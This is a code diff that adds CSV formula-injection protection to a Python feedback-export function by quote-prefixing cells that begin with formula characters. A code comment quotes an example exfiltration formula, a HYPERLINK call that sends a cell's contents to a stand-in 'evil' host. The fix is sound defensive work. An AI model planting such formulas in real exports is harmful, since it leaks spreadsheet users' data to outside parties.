@@ -101,8 +101,23 @@ class FeedbackStore:
             return out
 
 
+# A cell starting with one of these is run as a formula by Excel, LibreOffice and Sheets
+# (`=HYPERLINK("http://evil/?"&A1, "click")`): OWASP's advice is to prefix it with a quote.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value):
+    """A CSV cell that a spreadsheet shows as text, never runs as a formula.
+
+    >>> [spreadsheet_safe(v) for v in ("=HYPERLINK(1)", "@SUM(A1)", "fine", 3)]
+    ["'=HYPERLINK(1)", "'@SUM(A1)", 'fine', 3]
+    """
+    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value
+
+
 def export(rows: list[dict], fmt: str, out: Path) -> int:
-    """Write rows as CSV (citations/settings as JSON text) or JSONL; return the row count."""
+    """Write rows as CSV (citations/settings as JSON text; formula-like cells neutralised) or JSONL
+    (exact text); return the row count."""
     out = Path(out)
     if fmt not in ("csv", "jsonl"):
         raise FeedbackError(f"unknown format {fmt!r}: use csv or jsonl")
@@ -116,5 +131,6 @@ def export(rows: list[dict], fmt: str, out: Path) -> int:
             w = csv.DictWriter(f, fieldnames=list(COLUMNS))
             w.writeheader()
             for r in rows:
-                w.writerow({k: json.dumps(r[k], ensure_ascii=False) if k in ("citations", "settings") else r[k] for k in COLUMNS})
+                w.writerow({k: spreadsheet_safe(json.dumps(r[k], ensure_ascii=False) if k in ("citations", "settings") else r[k])
+                            for k in COLUMNS})
     return len(rows)
